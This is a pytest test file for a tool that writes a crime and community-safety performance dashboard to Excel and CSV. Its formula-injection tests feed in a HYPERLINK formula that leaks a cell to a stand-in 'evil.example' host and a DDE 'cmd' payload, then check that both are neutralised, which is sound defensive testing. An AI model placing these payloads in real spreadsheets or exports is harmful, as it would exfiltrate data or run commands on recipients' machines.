"""helpers.presentation.excel: the dashboard workbook, read back for real."""

from __future__ import annotations

import csv
import dataclasses
import re
import shutil
import subprocess
import tempfile
import zipfile
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from openpyxl import load_workbook
from openpyxl.styles import Font

import board
from helpers import config
from helpers.analysis.compute import compute
from helpers.analysis.vocabulary import Direction
from helpers.presentation.excel import ILLUSTRATIVE_MARK, JUDGEMENT_STYLE, VERSUS, write_csv, write_dashboard
from helpers.presentation.narrative import judgement_words, variation
from helpers.xlsx import _plain, _plain_column, safe_text

QUARTER = "2022-23-Q2"
HEADER_ROW = 5  # column headers of the Dashboard sheet
AREA_COLUMN = 8  # the first area's column
AREAS = [a for a in board.AREAS if a != board.PARTNERSHIP]  # the partnership's own figures are columns 2 to 4
FIRST_ROW = HEADER_ROW + 1
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


@pytest.fixture(scope="module")
def results():
    return compute(QUARTER)


@pytest.fixture(scope="module")
def dashboard(results, tmp_path_factory) -> Path:
    return write_dashboard(results, tmp_path_factory.mktemp("excel") / "dashboard.xlsx")


@pytest.fixture(scope="module")
def book(dashboard):
    return load_workbook(dashboard)


@pytest.fixture(scope="module")
def rows(book, results) -> dict:
    """Dashboard row number by indicator id, found through the title in column A."""
    ws = book["Dashboard"]
    by_title = {
        ws.cell(r, 1).value.removesuffix(f" {ILLUSTRATIVE_MARK}").removesuffix(" (%)"): r
        for r in range(FIRST_ROW, ws.max_row + 1)
        if isinstance(ws.cell(r, 1).value, str)
    }
    return {i.id: by_title[i.title] for i in results.catalogue.values() if i.title in by_title}


def partnership(results, indicator_id: str) -> pd.Series:
    table = results.table
    return table[(table["indicator_id"] == indicator_id) & (table["area"] == board.PARTNERSHIP)].iloc[0]


def headers(ws) -> list[str]:
    return [ws.cell(HEADER_ROW, c).value for c in range(1, ws.max_column + 1)]


# --- Dashboard ------------------------------------------------------------------------


def test_dashboard_lists_every_indicator_in_section_order(book, results, rows):
    assert set(rows) == set(results.catalogue)
    ordered = sorted(rows, key=rows.get)
    expected = [i.id for s in config.SECTIONS for i in results.catalogue.values() if i.section == s]
    assert ordered == expected
    ws = book["Dashboard"]
    column_a = [ws.cell(r, 1).value for r in range(FIRST_ROW, ws.max_row + 1)]
    assert all(title in column_a for title in config.SECTIONS.values())


def test_dashboard_columns(book):
    names = headers(book["Dashboard"])
    assert names[0] == "Indicator"
    assert names[1].startswith("Current") and names[2].startswith("Previous")
    assert names[3:7] == ["Change", "Judgement", "Trend,\n24 months", "Monthly SPC"]
    assert [n.replace("\n", " ") for n in names[7:]] == AREAS


@pytest.mark.parametrize(
    "indicator_id", ["total_crime", "robbery", "marac_repeat_rate", "hate_crime", "cohesion_survey"]
)
def test_partnership_values_equal_the_table(book, results, rows, indicator_id):
    ws, row, record = book["Dashboard"], rows[indicator_id], partnership(results, indicator_id)
    assert round(ws.cell(row, 2).value, 2) == round(record["value"], 2)
    assert round(ws.cell(row, 3).value, 2) == round(record["previous_value"], 2)
    change = record["change_abs"] if record["measure"] == "percentage" else record["change_pct"]  # points, or %
    assert round(ws.cell(row, 4).value, 2) == round(change, 2)
    unit = results.catalogue[indicator_id].unit  # named on the row unless it is the heading's per 10,000
    title = ws.cell(row, 1).value.removesuffix(f" {ILLUSTRATIVE_MARK}")
    assert title.endswith(f"({unit})") == (unit != "per 10,000")
    # every area column holds that area's value
    for column, area in enumerate(AREAS, start=AREA_COLUMN):
        expected = results.table.set_index(["indicator_id", "area"]).loc[(indicator_id, area), "value"]
        assert ws.cell(row, column).value == pytest.approx(expected, abs=1e-9)


def test_number_formats_by_unit(book, rows):
    ws = book["Dashboard"]
    assert ws.cell(rows["total_crime"], 2).number_format == '0.00" "_▲'
    assert ws.cell(rows["marac_repeat_rate"], 2).number_format.startswith('0.0"%"')  # values are already percentages
    assert "%" not in ws.cell(rows["marac_repeat_rate"], 2).number_format.replace('"%"', "")


def test_change_is_in_points_for_percentages_and_in_percent_for_rates(book, rows):
    """As in the report: a percentage moves by points (32.0% to 35.5% is +3.5 pts), a rate by a relative %."""
    ws = book["Dashboard"]
    assert ws.cell(rows["marac_repeat_rate"], 4).number_format == '"► "+0.0" pts";"► "-0.0" pts";"► "0.0" pts"'
    assert ws.cell(rows["total_crime"], 4).number_format == '"▲ "+0.0"%";"▲ "-0.0"%";"▲ "0.0"%"'


def test_change_from_a_previous_value_of_0_is_new(results, tmp_path):
    table = results.table.copy()
    hate = (table["indicator_id"] == "hate_crime") & (table["area"] == board.PARTNERSHIP)
    # as quarter_table gives it: no relative change from 0
    table.loc[hate, ["previous_numerator", "previous_value", "change_pct"]] = [0, 0, np.nan]
    table.loc[hate, "change_abs"] = table.loc[hate, "value"]
    path = write_dashboard(dataclasses.replace(results, table=table), tmp_path / "new.xlsx")
    ws = load_workbook(path)["Dashboard"]
    row = next(r for r in range(FIRST_ROW, ws.max_row + 1) if ws.cell(r, 1).value.startswith("Hate crimes"))
    assert ws.cell(row, 3).value == 0 and ws.cell(row, 4).value.endswith(" new")


def test_unavailable_indicator_says_not_available_with_reason(book, results, rows):
    ws, row = book["Dashboard"], rows["racially_religiously_aggravated"]
    reason = results.settings.unavailable["racially_religiously_aggravated"]
    cell = ws.cell(row, 2)
    assert cell.value == "Not available"
    assert cell.comment is not None and cell.comment.text == reason
    values = [ws.cell(row, c).value for c in range(2, ws.max_column + 1)]
    assert not any(isinstance(v, (int, float)) for v in values)  # never a 0 or any number


def test_direction_and_judgement_come_from_the_table(book, results, rows):
    ws = book["Dashboard"]
    for indicator_id, row in rows.items():
        record = partnership(results, indicator_id)
        if record["status"] != "available":
            continue
        assert ws.cell(row, 4).number_format.startswith(f'"{Direction.read(record["direction"]).arrow} "')
        judgement = ws.cell(row, 5)
        words, style = judgement_words(record, results.catalogue[indicator_id].target)  # as the report says it
        assert judgement.value == words
        fill, colour = JUDGEMENT_STYLE[style]
        assert judgement.fill.start_color.rgb.endswith(fill) and judgement.font.color.rgb.endswith(colour)


def test_area_values_carry_their_direction_and_are_shaded_by_the_comparison(book, results, rows):
    ws = book["Dashboard"]
    table = results.table.set_index(["indicator_id", "area"])
    shaded = 0
    for indicator_id, row in rows.items():
        for column, area in enumerate(AREAS, start=AREA_COLUMN):
            record, cell = table.loc[(indicator_id, area)], ws.cell(row, column)
            if record["status"] != "available":
                continue
            assert cell.number_format.endswith(f' {Direction.read(record["direction"]).arrow}"'), (indicator_id, area)
            if record["vs_partnership"] in VERSUS:
                assert cell.fill.start_color.rgb.endswith(VERSUS[record["vs_partnership"]]) and cell.font.bold
                shaded += 1
            else:
                assert cell.fill.fill_type is None and not cell.font.bold
    assert shaded > 0  # some areas differ from the partnership, so the shading is checked


def test_target_range_illustrative_marks_and_a_key_in_plain_words(book, results, rows):
    ws = book["Dashboard"]
    marac = partnership(results, "marac_repeat_rate")
    assert ws.cell(rows["marac_repeat_rate"], 5).value == f"{marac['target_status'].capitalize()} 28–40% range"
    assert ws.cell(rows["violence_with_injury"], 1).value.endswith(ILLUSTRATIVE_MARK)  # local sample data
    assert not ws.cell(rows["total_crime"], 1).value.endswith(ILLUSTRATIVE_MARK)  # police.uk
    key = " ".join(str(c.value) for row in ws.iter_rows(min_row=max(rows.values()) + 1) for c in row if c.value)
    for words in ("Illustrative sample", "▲ higher", "Improving", "No judgement", "Monthly SPC", "Trend"):
        assert words in key
    for jargon in ("Laney", "quasi-Poisson", "Byar", "funnel"):
        assert jargon not in key


def test_a_trend_line_is_drawn_in_the_row_of_every_indicator_with_a_series(book, results, rows):
    ws = book["Dashboard"]
    anchored = sorted(image.anchor._from.row + 1 for image in ws._images)
    assert all(image.anchor._from.col + 1 == 6 for image in ws._images)  # the Trend column
    with_data = sorted(
        row for indicator_id, row in rows.items() if partnership(results, indicator_id)["status"] == "available"
    )
    assert anchored == with_data


def contrast(foreground: str, background: str) -> float:
    def luminance(hex_colour: str) -> float:
        channels = [int(hex_colour[i : i + 2], 16) / 255 for i in (0, 2, 4)]
        r, g, b = [c / 12.92 if c <= 0.03928 else ((c + 0.055) / 1.055) ** 2.4 for c in channels]
        return 0.2126 * r + 0.7152 * g + 0.0722 * b

    light, dark = sorted((luminance(foreground), luminance(background)), reverse=True)
    return (light + 0.05) / (dark + 0.05)


def test_colours_have_enough_contrast():
    for fill, text in JUDGEMENT_STYLE.values():
        assert contrast(text, fill) >= 4.5
    for fill in VERSUS.values():
        assert contrast("000000", fill) >= 4.5


def test_print_setup_is_one_landscape_page(book):
    ws = book["Dashboard"]
    assert ws.page_setup.orientation == "landscape"
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert (ws.page_setup.fitToWidth, ws.page_setup.fitToHeight) == (1, 1)
    assert ws.print_title_rows == f"${HEADER_ROW - 1}:${HEADER_ROW}"
    assert ws.freeze_panes == f"B{FIRST_ROW}"
    assert ws.page_margins.left <= 0.3


def test_every_sheet_has_a_print_area_and_the_data_sheets_fit_their_width(book):
    for ws in book.worksheets:
        assert ws.print_area, ws.title
    data = book["Data"]
    assert data.sheet_properties.pageSetUpPr.fitToPage and (
        data.page_setup.fitToWidth,
        data.page_setup.fitToHeight,
    ) == (1, 0)
    neighbourhoods = book["Neighbourhoods"]  # thousands of rows: its print area is the note saying so
    note = neighbourhoods[neighbourhoods.print_area.split("!")[1].replace("$", "")]
    assert "printing this sheet gives this note only" in note.value


# --- Trends, Data, Definitions --------------------------------------------------------


def test_trends_has_a_chart_per_available_indicator_and_its_data(book, results):
    ws = book["Trends"]
    available = [i for i in results.catalogue if partnership(results, i)["status"] == "available"]
    assert len(ws._charts) == len(available)
    top = next(r for r in range(1, ws.max_row + 1) if ws.cell(r, 1).value == "12 months ending")
    series = results.series[results.series["area"] == board.PARTNERSHIP]
    titles = {f"{i.title} ({i.unit})": i.id for i in results.catalogue.values()}
    columns = {titles[ws.cell(top, c).value]: c for c in range(2, ws.max_column + 1) if ws.cell(top, c).value}
    assert set(columns) == set(available)
    months = sorted(series["period_end"].unique())
    for indicator_id, column in columns.items():
        expected = series[series["indicator_id"] == indicator_id].set_index("period_end")["value"]
        for r, month in enumerate(months, start=top + 1):
            value = ws.cell(r, column).value
            if pd.isna(expected.get(month)):
                assert value is None
            else:
                assert value == pytest.approx(expected[month], abs=1e-9)


def test_data_sheet_equals_the_table(dashboard, book, results):
    table = results.table
    data = pd.read_excel(dashboard, sheet_name="Data")
    assert list(data.columns) == list(table.columns)
    assert len(data) == len(table)
    for column in table.columns:
        mine, theirs = table[column], data[column]
        if pd.api.types.is_numeric_dtype(mine) and not pd.api.types.is_bool_dtype(mine):
            np.testing.assert_allclose(
                theirs.to_numpy(float), mine.to_numpy(float), rtol=0, atol=1e-9, equal_nan=True, err_msg=column
            )
        else:
            expected = mine.astype(object).where(mine.notna() & (mine.astype(str) != ""), None).tolist()
            got = theirs.astype(object).where(theirs.notna(), None).tolist()
            assert got == expected, column
    excel_table = book["Data"].tables["IndicatorTable"]
    assert excel_table.ref == f"A1:{book['Data'].cell(1, len(table.columns)).column_letter}{len(table) + 1}"


def test_definitions_cover_the_catalogue(book, results):
    ws = book["Definitions"]
    ids = [ws.cell(r, 1).value for r in range(2, ws.max_row + 1)]
    assert ids == list(results.catalogue)
    marac = ids.index("marac_repeat_rate") + 2
    assert ws.cell(marac, 10).value.startswith("28–40")
    assert ws.cell(marac, 5).value == "No polarity"


def cell_values(path: Path) -> dict:
    wb = load_workbook(path)
    return {ws.title: [[c.value for c in row] for row in ws.iter_rows()] for ws in wb.worksheets}


def test_same_inputs_give_the_same_workbook(results, dashboard, tmp_path):
    again = write_dashboard(results, tmp_path / "again.xlsx")
    assert cell_values(again) == cell_values(dashboard)
    assert load_workbook(again).properties.created == load_workbook(dashboard).properties.created


def test_no_cell_is_a_formula(dashboard):
    with zipfile.ZipFile(dashboard) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets and not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)


# --- Formula injection ------------------------------------------------------------------


@pytest.mark.parametrize(
    "text, expected",
    [
        ("=1+1", "'=1+1"),
        ("+44 116", "'+44 116"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTab", "'\tTab"),
        ("\rCR", "'\rCR"),
        ("Blaby", "Blaby"),
        ("a=b", "a=b"),
        ("", ""),
        ("bell\x07", "bell"),
    ],
)
def test_safe_text(text, expected):
    assert safe_text(text) == expected


def test_params_and_data_text_cannot_become_formulas(results, tmp_path):
    table = results.table.copy()
    table.loc[table["area"] == "Blaby", "area"] = EVIL
    table.loc[table["reason"] != "", "reason"] = "@SUM(1+1)"
    settings = dataclasses.replace(results.settings, unavailable={k: "@SUM(1+1)" for k in results.settings.unavailable})
    partnership = dataclasses.replace(results.partnership, name=f"{EVIL} partnership")  # its total's rows too
    series = results.series.copy()
    for frame in (table, series):
        frame.loc[frame["area"] == results.partnership.name, "area"] = partnership.name
    catalogue = dict(results.catalogue)
    catalogue["robbery"] = dataclasses.replace(catalogue["robbery"], title="-Robbery", definition="+cmd|' /C calc'!A0")
    hostile = dataclasses.replace(
        results, table=table, series=series, settings=settings, partnership=partnership, catalogue=catalogue
    )
    path = write_dashboard(hostile, tmp_path / "hostile.xlsx")

    wb = load_workbook(path)
    texts = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in texts if c.data_type == "f"]
    assert not [c.value for c in texts if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@"))]
    title = wb["Dashboard"]["A1"]
    assert title.data_type == "s" and title.value.startswith("'=HYPERLINK(")
    data = wb["Data"]
    area_column = [c.value for c in data[1]].index("area") + 1
    assert "'" + EVIL in [data.cell(r, area_column).value for r in range(2, data.max_row + 1)]
    rra = next(r for r in range(1, 60) if str(wb["Dashboard"].cell(r, 1).value).startswith("Racially"))
    assert wb["Dashboard"].cell(rra, 2).comment.text == "'@SUM(1+1)"
    with zipfile.ZipFile(path) as archive:
        assert not any(b"<f>" in archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/"))


def test_indicators_csv_text_cannot_become_a_formula(results, tmp_path):
    """OWASP CSV injection: text cells get the workbook's leading quote; numbers are written as numbers."""
    table = results.table.copy()
    unavailable = table["indicator_id"] == "racially_religiously_aggravated"
    table.loc[unavailable, "reason"] = EVIL  # the params reason, copied as given
    table.loc[table["indicator_id"] == "robbery", "title"] = "-Robbery"
    write_csv(table, tmp_path / "indicators.csv")

    with open(tmp_path / "indicators.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert {r["reason"] for r in rows if r["indicator_id"] == "racially_religiously_aggravated"} == {"'" + EVIL}
    assert {r["title"] for r in rows if r["indicator_id"] == "robbery"} == {"'-Robbery"}
    falling = table[table["change_abs"] < 0].index[0]
    assert float(rows[falling]["change_abs"]) == table.at[falling, "change_abs"] < 0  # a negative number, untouched
    back = pd.read_csv(tmp_path / "indicators.csv")
    assert back["change_abs"].dtype == float and back["value"].equals(table["value"])
    live = [
        cell
        for row in rows
        for cell in row.values()
        if cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not re.fullmatch(r"-\d+(\.\d+)?(e-?\d+)?", cell)
    ]
    assert live == []  # only a negative number may start like a formula


# --- LibreOffice ---------------------------------------------------------------------------


def pdf_pages(pdf: Path) -> list[tuple[float, float, str]]:
    """(width, height, text) of each page."""
    from pypdf import PdfReader

    return [(float(p.mediabox.width), float(p.mediabox.height), p.extract_text()) for p in PdfReader(pdf).pages]


@pytest.mark.slow
def test_libreoffice_prints_the_dashboard_on_one_landscape_page(dashboard, tmp_path, soffice):
    profile = Path(tempfile.mkdtemp(prefix="lo-profile-"))
    try:
        subprocess.run(
            [
                soffice,
                f"-env:UserInstallation={profile.as_uri()}",
                "--headless",
                "--convert-to",
                "pdf",
                "--outdir",
                str(tmp_path),
                str(dashboard),
            ],
            check=True,
            capture_output=True,
            timeout=180,
        )
    finally:
        shutil.rmtree(profile, ignore_errors=True)
    pages = pdf_pages(tmp_path / "dashboard.pdf")
    # LibreOffice prints every sheet, the whole workbook on a dozen pages; the Dashboard is exactly the first page.
    assert len(pages) <= 12
    width, height, first = pages[0]
    assert width > height  # landscape
    flat = " ".join(first.split())
    assert "Safer Communities Performance Dashboard" in flat
    assert "Total recorded crime" in flat and "People from different backgrounds" in flat
    assert "No figure for the period" in flat  # the last line of the key
    assert "rolling 12-month values" in " ".join(pages[1][2].split())  # page 2 is already the Trends sheet
    assert not any("Performance Dashboard" in text for _, _, text in pages[1:])
    assert min(text_sizes(tmp_path / "dashboard.pdf")) >= 8  # points, as printed


def text_sizes(pdf: Path, page: int = 0) -> list[float]:
    """The printed size (points) of every piece of text on a page: font size times the matrices' vertical scale."""
    from pypdf import PdfReader

    sizes = []

    def visit(text, cm, tm, font, size):
        if text.strip():
            sizes.append(size * (tm[2] ** 2 + tm[3] ** 2) ** 0.5 * (cm[2] ** 2 + cm[3] ** 2) ** 0.5)

    PdfReader(pdf).pages[page].extract_text(visitor_text=visit)
    return sizes


def test_spc_column_shows_the_icon_word_on_its_colour(book, results, rows):
    ws = book["Dashboard"]
    table = results.table.set_index(["indicator_id", "area"])
    for indicator_id, row in rows.items():
        record = table.loc[(indicator_id, board.PARTNERSHIP)]
        cell = ws.cell(row, 7)
        if record["status"] == "available" and record["spc_icon"]:
            icon = variation(record["spc_icon"])
            assert cell.value == icon["word"] and cell.fill.start_color.rgb.endswith(icon["colour"][1:])
        elif record["status"] == "available":
            assert cell.value == "—"  # quarterly: no SPC


def test_a_data_sheet_keeps_every_text_as_text(tmp_path):
    """Rows are appended whole: a text that looks like an Excel error or a formula is still a plain string."""
    from openpyxl import Workbook

    from helpers.presentation.excel import Layout, _data_sheet

    workbook = Workbook(write_only=True)
    frame = pd.DataFrame({"area": ["#N/A", "=1+1", "Melton"], "value": [1.5, np.nan, 2.0]})
    _data_sheet(Layout(workbook.create_sheet("Data")), frame)
    workbook.save(tmp_path / "data.xlsx")
    sheet = load_workbook(tmp_path / "data.xlsx").active
    cells = [(c.value, c.data_type) for row in sheet.iter_rows(min_row=2, max_col=2) for c in row]
    assert cells == [("#N/A", "s"), (1.5, "n"), ("'=1+1", "s"), (None, "n"), ("Melton", "s"), (2.0, "n")]
    assert [(c.name, c.id) for c in sheet.tables["IndicatorTable"].tableColumns] == [("area", 1), ("value", 2)]


def test_a_layout_writes_cells_placed_in_any_order_row_by_row(tmp_path):
    """A write-only sheet takes its rows in order: a Layout keeps the cells placed anywhere until ``write``."""
    from openpyxl import Workbook

    from helpers.presentation.excel import Layout

    workbook = Workbook(write_only=True)
    layout = Layout(workbook.create_sheet("Laid out"))
    layout.cell(3, 2).value = "last"
    layout.cell(1, 3).value = 7
    layout.merge_cells(start_row=2, start_column=1, end_row=2, end_column=3)
    layout.cell(2, 1).value = "across"
    layout.cell(1, 1).font = Font(bold=True)
    layout.ws.row_dimensions[5].height = 30  # below the last cell: still written
    layout.write()
    workbook.save(tmp_path / "laid-out.xlsx")

    sheet = load_workbook(tmp_path / "laid-out.xlsx")["Laid out"]
    assert [[c.value for c in row] for row in sheet.iter_rows(max_row=3, max_col=3)] == [
        [None, None, 7],
        ["across", None, None],
        [None, "last", None],
    ]
    assert sheet["A1"].font.bold and not sheet["C1"].font.bold
    assert [str(r) for r in sheet.merged_cells.ranges] == ["A2:C2"]
    assert sheet.row_dimensions[5].height == 30


def test_a_column_is_made_plain_as_each_of_its_values():
    """``_plain_column`` gives what ``_plain`` gives value by value: Python numbers, None for missing, safe text."""
    frame = pd.DataFrame(
        {
            "decimal": [1.5, np.nan, -2.0],
            "count": np.array([3, 0, -1], dtype="int64"),
            "flag": [True, False, True],
            "text": pd.array(["=1+1", None, "Melton"], dtype="str"),
            "mixed": pd.Series([4.0, "fewer than 5", None], dtype=object),
            "numpy_in_object": pd.Series([np.int64(2), np.float64(np.nan), "-x"], dtype=object),
        }
    )
    for name in frame.columns:
        column = _plain_column(frame[name])
        expected = [_plain(value) for value in frame[name]]
        assert column == expected, name
        assert [type(v) for v in column] == [type(v) for v in expected], name
    assert _plain_column(frame["decimal"]) == [1.5, None, -2.0]
    assert _plain_column(frame["text"]) == ["'=1+1", None, "Melton"]
    assert [type(v) for v in _plain_column(frame["count"])] == [int, int, int]
